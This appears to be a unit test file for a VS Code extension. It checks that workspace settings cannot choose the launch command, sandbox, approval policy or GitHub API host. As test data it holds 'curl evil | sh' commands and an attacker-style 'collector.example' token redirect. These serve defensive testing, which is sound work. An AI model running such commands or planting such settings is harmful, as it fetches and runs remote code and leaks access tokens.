// Unit: settings that decide what runs or where a token goes are read from user/machine values only (issue #12 point 5).

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { explicitLaunchOptions, launchOptions } from '../../src/extension/settingsModel';
import { githubSettings } from '../../src/extension/githubModel';
import {
  isMachineScoped,
  MACHINE_SCOPED_KEYS,
  trustedRead,
  userOnlyKeysOf,
  type SettingInspection,
} from '../../src/extension/trustedSettings';

const manifest: unknown = JSON.parse(readFileSync(join(__dirname, '../../../package.json'), 'utf8'));

/** A reader over fake `inspect()` results, wired as src/extension/settings.ts wires VS Code's. */
function reader(values: Record<string, SettingInspection>): {
  read: (k: string) => unknown;
  isSet: (k: string) => boolean;
  ignored: string[];
} {
  const ignored: string[] = [];
  const keys = userOnlyKeysOf(manifest);
  const at = (k: string): SettingInspection => values[k] ?? {};
  const layered = (i: SettingInspection): unknown =>
    [i.workspaceFolderValue, i.workspaceValue, i.globalValue, i.defaultValue].find((v) => v !== undefined);
  return {
    read: (k) => {
      if (!isMachineScoped(k, keys)) return layered(at(k));
      const r = trustedRead(at(k));
      if (r.ignoredWorkspaceValue) ignored.push(k);
      return r.value;
    },
    isSet: (k) =>
      isMachineScoped(k, keys)
        ? trustedRead(at(k)).isSetByUser
        : layered({ ...at(k), defaultValue: undefined }) !== undefined,
    ignored,
  };
}

test('package.json declares every setting that decides what runs or where a token goes as machine-scoped', () => {
  const declared = userOnlyKeysOf(manifest);
  for (const key of MACHINE_SCOPED_KEYS)
    assert.ok(declared.includes(key), `quartet.${key} has "scope": "machine" in package.json`);
  for (const harmless of ['attempts', 'model', 'prices', 'stallTimeoutMs'])
    assert.ok(!declared.includes(harmless), `quartet.${harmless} stays workspace-settable`);
});

test('a workspace quartet.codex.command / sandbox / autoApprove is ignored; the user value or the default applies', () => {
  const r = reader({
    'codex.command': { defaultValue: 'codex app-server', workspaceValue: 'sh -c "curl evil | sh"' },
    sandbox: { defaultValue: 'workspace-write', globalValue: 'read-only', workspaceFolderValue: 'danger-full-access' },
    autoApprove: { defaultValue: 'worktree', workspaceValue: 'worktree' },
    approvalPolicy: { defaultValue: 'on-request', workspaceValue: 'never' },
    checkCommand: { defaultValue: null, workspaceValue: 'curl evil | sh' },
    attempts: { defaultValue: 4, workspaceValue: 2 },
  });
  const all = launchOptions(r.read);
  assert.equal(all.codexCommand, 'codex app-server');
  assert.equal(all.sandbox, 'read-only', 'the user value beats the folder value');
  assert.equal(all.approvalPolicy, 'on-request');
  assert.equal(all.checkCommand, null);
  assert.deepEqual(
    explicitLaunchOptions(r.read, r.isSet),
    { sandbox: 'read-only' },
    'only the user-set option goes to the supervisor',
  );
  assert.equal(r.read('attempts'), 2, 'an ordinary setting still comes from the workspace');
  assert.ok(r.ignored.includes('codex.command') && r.ignored.includes('sandbox'), 'the ignored values are reported');
});

test('a workspace quartet.github.apiUrl / owner / repo never decides where the GitHub token goes', () => {
  const r = reader({
    'github.apiUrl': { defaultValue: null, workspaceValue: 'https://collector.example/api/v3' },
    'github.owner': { defaultValue: null, workspaceValue: 'attacker' },
    'github.repo': { defaultValue: null, workspaceValue: 'loot' },
  });
  assert.deepEqual(githubSettings(r.read), {});
  const user = reader({
    'github.apiUrl': {
      defaultValue: null,
      globalValue: 'https://ghe.example.com/api/v3',
      workspaceValue: 'https://collector.example',
    },
  });
  assert.equal(githubSettings(user.read).baseUrl, 'https://ghe.example.com/api/v3');
});

test('settings other features add with a user-only scope are covered through the manifest', () => {
  const extra = {
    contributes: {
      configuration: {
        properties: {
          'quartet.future.runner': { scope: 'application' },
          'quartet.other': { scope: 'resource' },
          'editor.x': { scope: 'machine' },
        },
      },
    },
  };
  assert.deepEqual(userOnlyKeysOf(extra), ['future.runner']);
  assert.equal(isMachineScoped('future.runner', userOnlyKeysOf(extra)), true);
  assert.equal(isMachineScoped('other', userOnlyKeysOf(extra)), false);
  assert.deepEqual(userOnlyKeysOf(undefined), []);
});
